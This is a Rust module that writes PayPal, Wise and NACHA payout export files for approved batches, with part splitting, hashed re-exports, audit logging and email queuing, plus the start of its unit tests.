//! Export files of an approved batch, each as its provider publishes it: PayPal Payouts
//! CSV (web upload, ≤ 5,000 rows per file) and API JSON (≤ 15,000 items per request),
//! Wise batch CSV (one template for email recipients, one for US bank accounts, ≤ 1,000
//! transfers per file), NACHA ACH (a PPD batch for consumers, a CCD batch for
//! businesses). The row writers are pure; [`generate`] pages through the items (500
//! rows per query) and writes row by row. The hash of a file goes out in a header ahead
//! of it, so the first export of a (batch, format, part) is generated once into an
//! encrypted spool ([`crate::spool`]) while it is hashed, the hash recorded, and the
//! file sent from the spool. A re-export is generated again as it is sent, with the
//! recorded hash as the header, and checked against it on the way (a difference aborts
//! the response, so the client never receives a complete file that differs from the
//! first). Either way the database is read once per download and memory stays one page
//! of rows plus a buffer.
//!
//! Every CSV cell goes through [`crate::text::neutralize`]: values validated at input
//! pass unchanged, and a formula-leading value stored before that validation existed
//! cannot run in the spreadsheet of whoever opens the file.

use std::collections::HashMap;
use std::io::Write;

use chrono::NaiveDateTime;
use diesel::prelude::*;
use serde_json::json;
use sha2::{Digest, Sha256};

use super::methods;
use super::model::*;
use super::nacha::{self, NachaWriter, SecCode};
use super::service::{amount, batch_row};
use crate::audit::{self, AuditAction, AuditEvent, AuditSubject};
use crate::auth::RequestCtx;
use crate::db::schema::{payout_batches, payout_exports, payout_items, payout_methods, users};
use crate::db::{Backend, DbConn};
use crate::error::{AppError, AppResult, ProblemCode};
use crate::notifications::templates::{Email, PayoutSent};
use crate::spool::{SpoolReader, SpoolWriter};
use crate::tax::model::W9Payee;
use crate::AppState;

const PAGE: i64 = 500;

crate::text_enum! {
    /// A provider file format: one per rail, two for PayPal.
    pub enum Format {
        Nacha = "nacha",
        PaypalCsv = "paypal_csv",
        PaypalJson = "paypal_json",
        WiseCsv = "wise_csv",
    }
}

impl Format {
    pub fn rail(self) -> Rail {
        match self {
            Self::Nacha => Rail::Ach,
            Self::PaypalCsv | Self::PaypalJson => Rail::Paypal,
            Self::WiseCsv => Rail::Wise,
        }
    }
    pub fn content_type(self) -> &'static str {
        match self {
            Self::Nacha => "text/plain; charset=us-ascii",
            Self::PaypalCsv | Self::WiseCsv => "text/csv; charset=utf-8",
            Self::PaypalJson => "application/json",
        }
    }
    pub fn extension(self) -> &'static str {
        match self {
            Self::Nacha => "ach",
            Self::PaypalCsv | Self::WiseCsv => "csv",
            Self::PaypalJson => "json",
        }
    }
}

/// Files a format needs for `rows` items at `max_rows` per file (at least one).
pub fn part_count(rows: i64, max_rows: i64) -> i64 {
    ((rows + max_rows - 1) / max_rows).max(1)
}

/// (offset, limit) of part `part` (1-based), or None beyond the last.
pub fn part_range(rows: i64, part: i64, max_rows: i64) -> Option<(i64, i64)> {
    if part < 1 || part > part_count(rows, max_rows) {
        return None;
    }
    let offset = (part - 1) * max_rows;
    Some((offset, max_rows.min(rows - offset).max(0)))
}

/// A new PayPal `sender_batch_id`, stored with the batch at its build: the configured
/// prefix and 128 random bits, so two batches never share one, whatever the
/// environment, database or restore they come from.
pub fn new_sender_batch_id(prefix: &str) -> String {
    format!("{prefix}-{}", uuid::Uuid::new_v4().simple())
}

/// The `sender_batch_id` of one request part: the batch's own, and the part, so each
/// part is its own PayPal batch and a retry of a part repeats its id.
pub fn part_sender_batch_id(batch_sender_id: &str, part: i64) -> String {
    format!("{batch_sender_id}-{part}")
}

/// Who receives a payment, from the W-9 in force when the batch was approved (fixed,
/// so a re-export is identical).
#[derive(Debug, Clone, Default)]
pub struct Receiver {
    /// An EIN, an entity's tax classification or a business name on the W-9: Wise's
    /// business (institution) receivers and NACHA's CCD.
    pub business: bool,
    /// The name Wise shows: the business name for a business, the legal name otherwise.
    pub name: String,
    pub address_line1: String,
    pub address_line2: Option<String>,
    pub city: String,
    pub region: String,
    pub postal_code: String,
}

impl Receiver {
    pub fn from_w9(p: &W9Payee) -> Self {
        let business = p.names_a_business();
        Self {
            business,
            name: match (&p.business_name, business) {
                (Some(b), true) => b.clone(),
                _ => p.legal_name.clone(),
            },
            address_line1: p.address_line1.clone(),
            address_line2: p.address_line2.clone(),
            city: p.city.clone(),
            region: p.region.clone(),
            postal_code: p.postal_code.clone(),
        }
    }
}

/// One payment to write.
#[derive(Debug, Clone)]
pub struct Row {
    /// Its place in the file's slice: among the rail's items (`rail_position`), or
    /// among those of its destination kind for a Wise template (`kind_position`).
    pub position: i64,
    pub item_id: i64,
    pub net_cents: i64,
    /// The contributor's account name (Wise files fall back to it without a W-9).
    pub name: String,
    pub destination: Destination,
    /// From the W-9 (Wise and NACHA files; none for PayPal).
    pub receiver: Option<Receiver>,
}

impl Row {
    fn business(&self) -> bool {
        self.receiver.as_ref().is_some_and(|r| r.business)
    }
}

/// One CSV line; every cell neutralized ([`crate::text::neutralize`]).
fn csv_line<'a>(fields: impl IntoIterator<Item = &'a str>) -> String {
    let mut w = csv::WriterBuilder::new().has_headers(false).from_writer(Vec::new());
    // Writing to a Vec cannot fail.
    let _ = w.write_record(fields.into_iter().map(crate::text::neutralize).map(|c| c.into_owned()));
    String::from_utf8(w.into_inner().unwrap_or_default()).unwrap_or_default()
}

/// The currency of every amount in a provider file: the ledger's one currency (a second
/// one would need per-currency files, not only another literal here).
const USD: crate::ledger::money::Currency = crate::ledger::money::Currency::Usd;

fn email_of(d: &Destination) -> &str {
    match d {
        Destination::Email { email } => email,
        Destination::Bank(_) => "",
    }
}

/// PayPal Payouts web upload: no header; recipient, amount, currency, customer id (our
/// item id), note, wallet.
pub fn paypal_csv_row(batch_id: i64, r: &Row) -> String {
    csv_line([
        email_of(&r.destination),
        &amount(r.net_cents),
        USD.as_str(),
        &r.item_id.to_string(),
        &format!("Gatehouse payout batch {batch_id}"),
        "PAYPAL",
    ])
}

/// Writes one PayPal CSV file from rows.
pub fn paypal_csv(batch_id: i64, rows: impl IntoIterator<Item = Row>) -> Vec<u8> {
    let mut out = Vec::new();
    for r in rows {
        out.extend_from_slice(paypal_csv_row(batch_id, &r).as_bytes());
    }
    out
}

/// The Payouts API request body up to its first item; `sender_batch_id` is the part's.
pub fn paypal_json_head(sender_batch_id: &str) -> String {
    let header = json!({
        "sender_batch_id": sender_batch_id,
        "recipient_type": "EMAIL",
        "email_subject": "You have a payout from Gatehouse",
        "email_message": "Your Gatehouse earnings are on their way.",
    });
    format!("{{\"sender_batch_header\":{header},\"items\":[")
}

pub fn paypal_json_item(first: bool, r: &Row) -> String {
    let item = json!({
        "recipient_type": "EMAIL",
        "amount": {"value": amount(r.net_cents), "currency": USD.as_str()},
        "note": "Gatehouse payout",
        "sender_item_id": r.item_id.to_string(),
        "receiver": email_of(&r.destination),
    });
    format!("{}{item}", if first { "" } else { "," })
}

pub const PAYPAL_JSON_TAIL: &str = "]}";

/// Wise's two batch templates for USD payouts (docs/payouts.md gives the source of
/// each column): one for recipients Wise reaches by email, one for US bank accounts.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum WiseTemplate {
    Email,
    BankAccount,
}

impl WiseTemplate {
    pub fn kind(self) -> DestinationKind {
        match self {
            Self::Email => DestinationKind::Email,
            Self::BankAccount => DestinationKind::Bank,
        }
    }
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Email => "email",
            Self::BankAccount => "bank_account",
        }
    }
    /// The header row, as data.
    pub fn columns(self) -> &'static [&'static str] {
        match self {
            Self::Email => WISE_EMAIL_COLUMNS,
            Self::BankAccount => WISE_BANK_COLUMNS,
        }
    }
    pub fn header(self) -> String {
        csv_line(self.columns().iter().copied())
    }
}

pub const WISE_EMAIL_COLUMNS: &[&str] = &[
    "name",
    "recipientEmail",
    "paymentReference",
    "receiverType",
    "amountCurrency",
    "amount",
    "sourceCurrency",
    "targetCurrency",
];

pub const WISE_BANK_COLUMNS: &[&str] = &[
    "name",
    "recipientEmail",
    "paymentReference",
    "receiverType",
    "amountCurrency",
    "amount",
    "sourceCurrency",
    "targetCurrency",
    "abartn",
    "accountNumber",
    "accountType",
    "addressCountryCode",
    "addressCity",
    "addressFirstLine",
    "addressState",
    "addressPostCode",
];

/// Wise's receiver type: a person, or an institution (a business).
fn receiver_type(r: &Row) -> &'static str {
    if r.business() {
        "INSTITUTION"
    } else {
        "PERSON"
    }
}

/// A Wise batch row in USD to USD, the recipient receiving exactly our net amount
/// (`amountCurrency` = `target`), referenced `GH{item id}`. Email recipients: the W-9
/// name (the business name for a business). Bank accounts: the account holder's name
/// and the W-9 address, which Wise requires for USD recipients.
pub fn wise_row(r: &Row) -> String {
    let reference = format!("GH{}", r.item_id);
    let net = amount(r.net_cents);
    let kind = receiver_type(r);
    match &r.destination {
        Destination::Email { email } => {
            let name = r.receiver.as_ref().map_or(r.name.as_str(), |x| x.name.as_str());
            csv_line([name, email.as_str(), &reference, kind, "target", &net, USD.as_str(), USD.as_str()])
        }
        Destination::Bank(b) => {
            let empty = Receiver::default();
            let a = r.receiver.as_ref().unwrap_or(&empty);
            let first_line = match &a.address_line2 {
                Some(l2) if !l2.trim().is_empty() => format!("{} {}", a.address_line1, l2.trim()),
                _ => a.address_line1.clone(),
            };
            csv_line([
                b.holder_name.as_str(),
                "",
                &reference,
                kind,
                "target",
                &net,
                USD.as_str(),
                USD.as_str(),
                &b.routing_number,
                &b.account_number,
                match b.account_type {
                    BankAccountType::Checking => "CHECKING",
                    BankAccountType::Savings => "SAVINGS",
                },
                "US",
                &a.city,
                &first_line,
                &a.region,
                &a.postal_code,
            ])
        }
    }
}

pub fn nacha_entry(w: &mut NachaWriter<'_>, r: &Row) -> String {
    let Destination::Bank(b) = &r.destination else { return String::new() };
    w.entry(&nacha::Entry {
        account_type: match b.account_type {
            BankAccountType::Checking => nacha::AccountType::Checking,
            BankAccountType::Savings => nacha::AccountType::Savings,
        },
        routing: &b.routing_number,
        account: &b.account_number,
        amount_cents: r.net_cents.max(0) as u64,
        individual_id: &r.item_id.to_string(),
        individual_name: &b.holder_name,
    })
}

/// Which items one file takes: those of the rail (and destination kind, for Wise's
/// templates) from the `offset`-th, `limit` of them, in position order.
#[derive(Debug, Clone, Copy)]
pub struct Slice {
    pub kind: Option<DestinationKind>,
    pub offset: i64,
    pub limit: i64,
}

/// How many items the rail has (`kind` None), or has of one destination kind: the
/// last position, as positions are 1..n. One probe of the unique index
/// `(batch_id, rail, rail_position)` or `(batch_id, rail, destination_kind, kind_position)`.
pub(crate) fn count_items(
    conn: &mut DbConn,
    batch_id: i64,
    rail: Rail,
    kind: Option<DestinationKind>,
) -> AppResult<i64> {
    // The last position, read as the first row of a backward walk of the unique index
    // (ORDER BY … DESC LIMIT 1), not as MAX(): PostgreSQL plans MAX() from its
    // statistics, and right after a build, before autovacuum has analysed the table, it
    // expected one row and aggregated all 100,000 (25 ms per Wise part, 100 parts).
    let items = payout_items::table.filter(payout_items::batch_id.eq(batch_id)).filter(payout_items::rail.eq(rail));
    let last: Option<i64> = match kind {
        None => items.select(payout_items::rail_position).order(payout_items::rail_position.desc()).first(conn),
        Some(kind) => items
            .filter(payout_items::destination_kind.eq(kind))
            .select(payout_items::kind_position)
            .order(payout_items::kind_position.desc())
            .first(conn),
    }
    .optional()?;
    Ok(last.unwrap_or(0))
}

/// What a page reads per item: (rail_position, kind_position), id, contributor, net
/// cents, (method id, method ciphertext), the contributor's name (Wise only).
type PageRow = ((i64, i64), i64, i64, i64, (i64, String), String);

/// Which items of the plan's slice one query reads, in position order. Positions are
/// the items' `rail_position` for a slice of the whole rail, their `kind_position` for
/// a slice of one destination kind (a Wise template); both are dense (1..n) and in the
/// same order, so a slice starts right after position `offset`.
#[derive(Clone, Copy)]
enum Which<'a> {
    /// `limit` items after position `after`.
    After { after: i64, limit: i64 },
    /// The items at these positions.
    At(&'a [i64]),
}

/// Items of the rail, as `which` selects them, with what a file needs, decrypted; and
/// the last position read. Each query is a range of a unique index:
/// `(batch_id, rail, rail_position)` or `(batch_id, rail, destination_kind, kind_position)`.
fn page(st: &AppState, conn: &mut DbConn, plan: &Plan, which: Which<'_>) -> AppResult<(Vec<Row>, Option<i64>)> {
    use payout_items::{destination_kind, kind_position, rail_position};
    let rail = plan.format.rail();
    let items = payout_items::table
        .inner_join(payout_methods::table)
        .filter(payout_items::batch_id.eq(plan.batch_id))
        .filter(payout_items::rail.eq(rail));
    macro_rules! narrowed {
        ($query:expr) => {{
            let query = $query.into_boxed();
            match (plan.slice.kind, which) {
                (None, Which::After { after, limit }) => {
                    query.filter(rail_position.gt(after)).order(rail_position.asc()).limit(limit)
                }
                (None, Which::At(at)) => query.filter(rail_position.eq_any(at)).order(rail_position.asc()),
                (Some(kind), Which::After { after, limit }) => query
                    .filter(destination_kind.eq(kind))
                    .filter(kind_position.gt(after))
                    .order(kind_position.asc())
                    .limit(limit),
                (Some(kind), Which::At(at)) => {
                    query.filter(destination_kind.eq(kind)).filter(kind_position.eq_any(at)).order(kind_position.asc())
                }
            }
        }};
    }
    // Both positions (the slice's is its cursor); of the method, only what decrypts to
    // the destination.
    let rows: Vec<PageRow> = if rail == Rail::Wise {
        // Only Wise files carry the contributor's name (email recipients have no
        // account holder): the other rails skip the join to `users`.
        narrowed!(items.inner_join(users::table.on(users::id.eq(payout_items::contributor_id))).select((
            (rail_position, kind_position),
            payout_items::id,
            payout_items::contributor_id,
            payout_items::net_cents,
            (payout_methods::id, payout_methods::details_enc),
            users::full_name,
        )))
        .load(conn)?
    } else {
        narrowed!(items.select((
            (rail_position, kind_position),
            payout_items::id,
            payout_items::contributor_id,
            payout_items::net_cents,
            (payout_methods::id, payout_methods::details_enc),
            diesel::dsl::sql::<diesel::sql_types::Text>("''"),
        )))
        .load(conn)?
    };
    let of_slice = |(rail, kind): (i64, i64)| if plan.slice.kind.is_some() { kind } else { rail };
    let last = rows.last().map(|r| of_slice(r.0));
    // PayPal files name nobody; Wise and NACHA files need the W-9's receiver.
    let w9s = if rail == Rail::Paypal {
        HashMap::new()
    } else {
        let ids: Vec<i64> = rows.iter().map(|r| r.2).collect();
        crate::tax::service::profiles_in_force_of(conn, &ids, plan.approved_at)?
    };
    let rows = rows
        .into_iter()
        .map(|(positions, item_id, contributor_id, net_cents, (method_id, details_enc), name)| {
            Ok(Row {
                position: of_slice(positions),
                item_id,
                net_cents,
                name,
                destination: methods::decrypt_destination(st, method_id, &details_enc)?,
                receiver: w9s.get(&contributor_id).map(Receiver::from_w9),
            })
        })
        .collect::<AppResult<Vec<_>>>()?;
    Ok((rows, last))
}

/// Calls `f` for each row of the plan's slice, `PAGE` rows per query: one page of rows
/// in memory at a time. A part starts by index at its first position, whatever the
/// parts before it hold.
fn for_rows(
    st: &AppState,
    conn: &mut DbConn,
    plan: &Plan,
    mut f: impl FnMut(&Row) -> std::io::Result<()>,
) -> AppResult<i64> {
    let mut after = plan.slice.offset;
    let mut left = plan.slice.limit;
    let mut written = 0;
    while left > 0 {
        let (rows, last) = page(st, conn, plan, Which::After { after, limit: PAGE.min(left) })?;
        let Some(last) = last else { break };
        for r in &rows {
            f(r).map_err(write_error)?;
        }
        left -= rows.len() as i64;
        written += rows.len() as i64;
        after = last;
    }
    Ok(written)
}

fn write_error(e: std::io::Error) -> AppError {
    AppError::Internal(anyhow::anyhow!("writing an export: {e}"))
}

/// What one export file is: checked once, then generated.
#[derive(Debug, Clone)]
pub struct Plan {
    pub batch_id: i64,
    pub format: Format,
    pub part: i64,
    pub parts: i64,
    pub slice: Slice,
    /// Wise files: the template of this part.
    pub wise_template: Option<WiseTemplate>,
    approved_at: NaiveDateTime,
    /// When this file was first exported (now, at its first export): dates the NACHA
    /// file and its effective entry date, so a re-export is identical.
    pub created: NaiveDateTime,
    /// PayPal API: the request's `sender_batch_id`.
    pub sender_batch_id: String,
}

impl Plan {
    pub fn filename(&self) -> String {
        let template = self.wise_template.map(|t| format!("-{}", t.as_str())).unwrap_or_default();
        let suffix = if self.parts > 1 { format!("-part-{}", self.part) } else { String::new() };
        format!("payout-batch-{}-{}{template}{suffix}.{}", self.batch_id, self.format.as_str(), self.format.extension())
    }
}

/// Checks that the batch can be exported in this format and part.
pub fn plan(st: &AppState, conn: &mut DbConn, batch_id: i64, format: Format, part: i64) -> AppResult<Plan> {
    let batch = batch_row(conn, batch_id)?;
    let Some(approved_at) = batch
        .approved_at
        .filter(|_| matches!(batch.status(), BatchStatus::Approved | BatchStatus::Exported | BatchStatus::Settled))
    else {
        return Err(AppError::conflict(
            ProblemCode::BatchNotApproved,
            format!("only an approved batch is exported; this one is {}", batch.status),
        ));
    };
    let rail = format.rail();
    let total = count_items(conn, batch_id, rail, None)?;
    if total == 0 {
        return Err(AppError::conflict(
            ProblemCode::NothingToExport,
            format!("the batch has no {} items", rail.as_str()),
        ));
    }
    let cfg = &st.config.payouts;
    let whole = |max: i64| -> AppResult<(Slice, i64)> {
        let (offset, limit) = part_range(total, part, max).ok_or(AppError::NotFound)?;
        Ok((Slice { kind: None, offset, limit }, part_count(total, max)))
    };
    let (slice, parts, wise_template) = match format {
        Format::PaypalCsv => whole(cfg.paypal_csv_max_rows).map(|(s, p)| (s, p, None))?,
        Format::PaypalJson => whole(cfg.paypal_api_max_items).map(|(s, p)| (s, p, None))?,
        Format::Nacha => whole(total).map(|(s, p)| (s, p, None))?,
        Format::WiseCsv => {
            // Email parts first, then bank-account parts; a template with no items has none.
            let max = cfg.wise_csv_max_rows;
            let mut parts = Vec::new();
            for template in [WiseTemplate::Email, WiseTemplate::BankAccount] {
                let n = count_items(conn, batch_id, rail, Some(template.kind()))?;
                for p in 1..=if n > 0 { part_count(n, max) } else { 0 } {
                    parts.push((template, part_range(n, p, max).unwrap_or((0, 0))));
                }
            }
            let count = parts.len() as i64;
            let index = usize::try_from(part - 1).map_err(|_| AppError::NotFound)?;
            let (template, (offset, limit)) = parts.get(index).copied().ok_or(AppError::NotFound)?;
            (Slice { kind: Some(template.kind()), offset, limit }, count, Some(template))
        }
    };
    let created = payout_exports::table
        .filter(payout_exports::batch_id.eq(batch_id))
        .filter(payout_exports::format.eq(format))
        .filter(payout_exports::part.eq(part as i32))
        .select(payout_exports::exported_at)
        .first(conn)
        .optional()?
        .unwrap_or_else(|| st.clock.now());
    Ok(Plan {
        batch_id,
        format,
        part,
        parts,
        slice,
        wise_template,
        approved_at,
        created,
        sender_batch_id: part_sender_batch_id(&batch.sender_batch_id, part),
    })
}

/// Writes the file row by row into `out`; returns the number of items written.
pub fn generate(st: &AppState, conn: &mut DbConn, plan: &Plan, out: &mut dyn Write) -> AppResult<i64> {
    let batch_id = plan.batch_id;
    match plan.format {
        Format::PaypalCsv => for_rows(st, conn, plan, |r| out.write_all(paypal_csv_row(batch_id, r).as_bytes())),
        Format::PaypalJson => {
            out.write_all(paypal_json_head(&plan.sender_batch_id).as_bytes()).map_err(write_error)?;
            let mut first = true;
            let n = for_rows(st, conn, plan, |r| {
                let item = paypal_json_item(first, r);
                first = false;
                out.write_all(item.as_bytes())
            })?;
            out.write_all(PAYPAL_JSON_TAIL.as_bytes()).map_err(write_error)?;
            Ok(n)
        }
        Format::WiseCsv => {
            let template = plan.wise_template.unwrap_or(WiseTemplate::BankAccount);
            out.write_all(template.header().as_bytes()).map_err(write_error)?;
            for_rows(st, conn, plan, |r| out.write_all(wise_row(r).as_bytes()))
        }
        Format::Nacha => {
            // The first export's time dates the file and its effective entry date (the
            // next banking day), so a re-export is byte-identical. Consumers' credits
            // form a PPD batch, businesses' a CCD batch after it: one pass over the
            // items writes the consumers' entries and keeps the businesses' positions
            // (8 bytes each), whose items alone are read again for the CCD batch. The
            // entries come out in the order two passes over all the items gave, so a
            // file first exported before keeps its recorded hash.
            let o = &st.config.payouts.nacha;
            let (mut w, head) = NachaWriter::start(o, plan.created, nacha::effective_entry_date(plan.created.date()));
            out.write_all(head.as_bytes()).map_err(write_error)?;
            let mut businesses = Vec::new();
            let mut open = false;
            let n = for_rows(st, conn, plan, |r| {
                if r.business() {
                    businesses.push(r.position);
                    return Ok(());
                }
                if !open {
                    open = true;
                    out.write_all(w.begin_batch(SecCode::Ppd).as_bytes())?;
                }
                out.write_all(nacha_entry(&mut w, r).as_bytes())
            })?;
            out.write_all(w.end_batch().as_bytes()).map_err(write_error)?;
            for (k, positions) in businesses.chunks(PAGE as usize).enumerate() {
                if k == 0 {
                    out.write_all(w.begin_batch(SecCode::Ccd).as_bytes()).map_err(write_error)?;
                }
                let (rows, _) = page(st, conn, plan, Which::At(positions))?;
                if rows.len() != positions.len() {
                    return Err(AppError::Internal(anyhow::anyhow!(
                        "batch {}: CCD items changed while exported",
                        plan.batch_id
                    )));
                }
                for r in &rows {
                    out.write_all(nacha_entry(&mut w, r).as_bytes()).map_err(write_error)?;
                }
            }
            out.write_all(w.end_batch().as_bytes()).map_err(write_error)?;
            out.write_all(w.finish().as_bytes()).map_err(write_error)?;
            Ok(n)
        }
    }
}

/// A writer that only hashes and counts: the first pass of an export.
#[derive(Default)]
pub struct HashingSink {
    hasher: Sha256,
    pub bytes: i64,
}

impl HashingSink {
    pub fn hex(self) -> String {
        hex::encode(self.hasher.finalize())
    }
}

impl Write for HashingSink {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.hasher.update(buf);
        self.bytes += buf.len() as i64;
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// An export ready to send: its plan, the hash that goes out ahead of it, and where its
/// bytes come from.
pub struct Prepared {
    pub plan: Plan,
    pub sha256: String,
    pub body: Body,
}

pub enum Body {
    /// First export of this file: generated once into an encrypted spool while it was
    /// hashed; sent from there.
    Spooled(Box<SpoolReader>),
    /// Re-export: generated again while it is sent, checked against the recorded hash.
    Regenerate,
}

/// Plans the file. At its first export, generates it once into an encrypted spool
/// ([`crate::spool`]), hashing it on the way, and records the hash; a re-export takes
/// the recorded hash and is generated again as it is sent. The first export of a batch
/// moves it to `exported` and emails its contributors.
pub fn prepare(
    st: &AppState,
    ctx: &RequestCtx,
    finance_id: i64,
    batch_id: i64,
    format: Format,
    part: i64,
) -> AppResult<Prepared> {
    let started = std::time::Instant::now();
    let (plan, sha256, bytes, items, body) = st.db.read_sync(|conn| {
        let plan = plan(st, conn, batch_id, format, part)?;
        if let Some((sha256, bytes, items)) = recorded(conn, batch_id, format, part)? {
            return Ok((plan, sha256, bytes, items, Body::Regenerate));
        }
        let spool = SpoolWriter::create(&st.config.data_dir).map_err(write_error)?;
        let mut out = Tee { hash: HashingSink::default(), spool: std::io::BufWriter::with_capacity(64 * 1024, spool) };
        let items = generate(st, conn, &plan, &mut out)?;
        let Tee { hash, spool } = out;
        let spool = spool.into_inner().map_err(|e| write_error(e.into_error()))?.finish().map_err(write_error)?;
        let bytes = hash.bytes;
        Ok((plan, hash.hex(), bytes, items, Body::Spooled(Box::new(spool))))
    })?;
    record(st, ctx, finance_id, &plan, &sha256, bytes, items)?;
    // A re-export streams as it regenerates: only a first export's spooling is timed.
    if matches!(body, Body::Spooled(_)) {
        st.metrics.export.with_label_values(&[format.as_str()]).observe(started.elapsed().as_secs_f64());
    }
    Ok(Prepared { plan, sha256, body })
}

/// Hashes what is written and spools it.
struct Tee {
    hash: HashingSink,
    spool: std::io::BufWriter<SpoolWriter>,
}

impl Write for Tee {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.hash.write_all(buf)?;
        self.spool.write_all(buf)?;
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        self.spool.flush()
    }
}

/// The hash, size and item count recorded at the first export of this file, if any.
fn recorded(conn: &mut DbConn, batch_id: i64, format: Format, part: i64) -> AppResult<Option<(String, i64, i64)>> {
    Ok(payout_exports::table
        .filter(payout_exports::batch_id.eq(batch_id))
        .filter(payout_exports::format.eq(format))
        .filter(payout_exports::part.eq(part as i32))
        .select((payout_exports::sha256, payout_exports::byte_count, payout_exports::item_count))
        .first(conn)
        .optional()?)
}

fn record(
    st: &AppState,
    ctx: &RequestCtx,
    finance_id: i64,
    plan: &Plan,
    sha256: &str,
    bytes: i64,
    items: i64,
) -> AppResult<()> {
    let (batch_id, format, part) = (plan.batch_id, plan.format, plan.part);
    st.db.tx_sync(|conn| {
        let now = st.clock.now();
        let previous: Option<String> = payout_exports::table
            .filter(payout_exports::batch_id.eq(batch_id))
            .filter(payout_exports::format.eq(format))
            .filter(payout_exports::part.eq(part as i32))
            .select(payout_exports::sha256)
            .first(conn)
            .optional()?;
        match previous {
            Some(h) if h != sha256 => {
                return Err(AppError::Internal(anyhow::anyhow!(
                    "re-export of batch {batch_id} {} part {part} differs from the first export",
                    format.as_str()
                )))
            }
            Some(_) => {}
            None => {
                diesel::insert_into(payout_exports::table)
                    .values(NewExportRow {
                        batch_id,
                        format,
                        part: part as i32,
                        sha256,
                        byte_count: bytes,
                        item_count: items,
                        exported_by: finance_id,
                        // The time the file was generated with (it dates a NACHA file).
                        exported_at: plan.created,
                    })
                    .execute(conn)?;
            }
        }
        audit::record(
            conn,
            now,
            ctx,
            AuditEvent {
                actor_id: Some(finance_id),
                action: AuditAction::PayoutBatchExportDownloaded,
                subject_type: AuditSubject::PayoutBatch,
                subject_id: Some(batch_id.to_string()),
                summary: json!({"after": {"format": format.as_str(), "part": part, "sha256": sha256, "items": items}}),
            },
        )?;
        let first = diesel::update(
            payout_batches::table
                .filter(payout_batches::id.eq(batch_id))
                .filter(payout_batches::status.eq(BatchStatus::Approved.as_str())),
        )
        .set((payout_batches::status.eq(BatchStatus::Exported.as_str()), payout_batches::exported_at.eq(now)))
        .execute(conn)?;
        if first == 1 {
            audit::record(
                conn,
                now,
                ctx,
                AuditEvent {
                    actor_id: Some(finance_id),
                    action: AuditAction::PayoutBatchExported,
                    subject_type: AuditSubject::PayoutBatch,
                    subject_id: Some(batch_id.to_string()),
                    summary: json!({"before": {"status": "approved"}, "after": {"status": "exported"}}),
                },
            )?;
            email_sent(conn, now, batch_id)?;
        }
        Ok(())
    })
}

/// "Your payout is on its way", once per item, when the batch is first exported: one
/// `INSERT … SELECT` that writes each item's template parameters (those of
/// [`PayoutSent`], amounts formatted as [`amount`] formats them) straight from the
/// items, their payees and their methods; the outbox worker renders each email when it
/// sends it. `ON CONFLICT DO NOTHING` on the UNIQUE event key queues an email once
/// (never `INSERT OR IGNORE`, which would also drop a row that fails a CHECK).
///
/// Set-based because paging it through the service (read 500 items, serialize, insert
/// 500 rows) made the first export of a 300,000-item batch take over 100 s on SQLite,
/// growing faster than the batch (issue 19, BENCHMARKS.md).
fn email_sent(conn: &mut DbConn, now: NaiveDateTime, batch_id: i64) -> AppResult<()> {
    use diesel::sql_types::{BigInt, Timestamp};
    let backend = conn.backend();
    let money = |column| crate::ledger::money::amount_sql(backend, column);
    let (object, batch, at) = match backend {
        Backend::Postgres => ("json_build_object", "$1", "$2"),
        Backend::Sqlite => ("json_object", "?1", "?2"),
    };
    let sql = format!(
        "INSERT INTO outbox (event_key, recipient, template, params, status, attempts, next_attempt_at, created_at) \
         SELECT 'payout_sent:' || CAST(i.id AS TEXT), u.email, '{template}', \
         CAST({object}('full_name', u.full_name, 'item_id', i.id, 'gross', {gross}, 'withheld', {withheld}, \
         'net', {net}, 'destination', m.masked) AS TEXT), 'pending', 0, {at}, {at} \
         FROM payout_items i JOIN users u ON u.id = i.contributor_id JOIN payout_methods m ON m.id = i.method_id \
         WHERE i.batch_id = {batch} \
         ON CONFLICT (event_key) DO NOTHING",
        template = PayoutSent::TEMPLATE.as_str(),
        gross = money("i.gross_cents"),
        withheld = money("i.withheld_cents"),
        net = money("i.net_cents"),
    );
    let query = diesel::sql_query(sql).bind::<BigInt, _>(batch_id).bind::<Timestamp, _>(now);
    match conn {
        DbConn::Postgresql(c) => query.execute(c)?,
        DbConn::Sqlite(c) => query.execute(c)?,
    };
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn paypal(item_id: i64) -> Row {
        Row {
            position: item_id,
            item_id,
            net_cents: 1_000 + item_id,
            name: "Ana".into(),
            destination: Destination::Email { email: format!("p{item_id}@example.com") },
            receiver: None,
        }
    }

    fn w9(business: bool) -> Receiver {
        Receiver {
            business,
            name: if business { "Dee Labeling LLC".into() } else { "Dee Doe".into() },
            address_line1: "1 Elm St".into(),
            address_line2: Some("Apt 2".into()),
            city: "Austin".into(),
            region: "TX".into(),
            postal_code: "78701".into(),
        }
    }

    fn bank(receiver: Option<Receiver>) -> Row {
        Row {
            position: 5,
            item_id: 5,
            net_cents: 2_550,
            name: "Dee, Jr".into(),
            destination: Destination::Bank(BankAccount {
                holder_name: "Dee, Jr".into(),
                routing_number: "021000021".into(),
                account_number: "123456789".into(),
                account_type: BankAccountType::Savings,
            }),
            receiver,
        }
    }

    fn cells(line: &str) -> Vec<String> {
        let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(line.as_bytes());
        r.records().next().unwrap().unwrap().iter().map(String::from).collect()
    }

    #[test]
    fn paypal_csv_splits_at_five_thousand_rows() {
        let total = 12_345;
        let max = 5_000;
        assert_eq!(part_count(total, max), 3);
        let mut seen = Vec::new();
        for part in 1..=3 {
            let (offset, limit) = part_range(total, part, max).unwrap();
            let rows = (offset..offset + limit).map(|i| paypal(i + 1));
            let file = String::from_utf8(paypal_csv(9, rows)).unwrap();
            let lines: Vec<&str> = file.lines().collect();
            assert_eq!(lines.len(), [5_000, 5_000, 2_345][part as usize - 1]);
            for l in lines {
                let cols: Vec<&str> = l.split(',').collect();
                assert_eq!(cols.len(), 6);
                assert_eq!((cols[2], cols[5]), ("USD", "PAYPAL"));
                seen.push(cols[3].parse::<i64>().unwrap());
            }
        }
        assert_eq!(seen, (1..=total).collect::<Vec<_>>(), "every item once, in order");
        assert!(part_range(total, 4, max).is_none());
        assert!(part_range(total, 0, max).is_none());
        assert_eq!(part_count(5_000, max), 1);
        assert_eq!(part_count(5_001, max), 2);
